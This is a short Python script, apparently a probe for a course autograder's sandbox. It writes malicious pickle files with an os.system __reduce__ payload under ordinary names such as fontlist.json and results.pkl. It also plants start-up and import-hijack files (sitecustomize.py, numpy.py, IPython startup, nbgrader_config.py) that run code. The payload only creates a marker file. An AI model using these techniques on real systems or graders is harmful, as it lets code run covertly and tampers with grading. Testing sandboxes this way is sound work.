# tries: pickles, configuration and start-up files in the folders where Python, IPython and matplotlib look
import os, pickle

class Bomb:
    def __reduce__(self):
        return (os.system, ("touch COURSE_ROOT/mallory",))

places = {os.path.expanduser("~"), os.getcwd(), os.environ["MPLCONFIGDIR"], os.environ["IPYTHONDIR"]}
for place in places:
    os.makedirs(f"{place}/profile_default/startup", exist_ok=True)
    for name in ("fontlist.json", "results.pkl", "history.sqlite", ".OTTER_LOG"):
        with open(os.path.join(place, name), "wb") as file:
            pickle.dump(Bomb(), file)
    for name in ("sitecustomize.py", "numpy.py", "course.py", "profile_default/startup/00.py", "nbgrader_config.py"):
        with open(os.path.join(place, name), "w") as file:
            file.write("open('COURSE_ROOT/mallory', 'w')\n")

double = lambda x: Bomb()
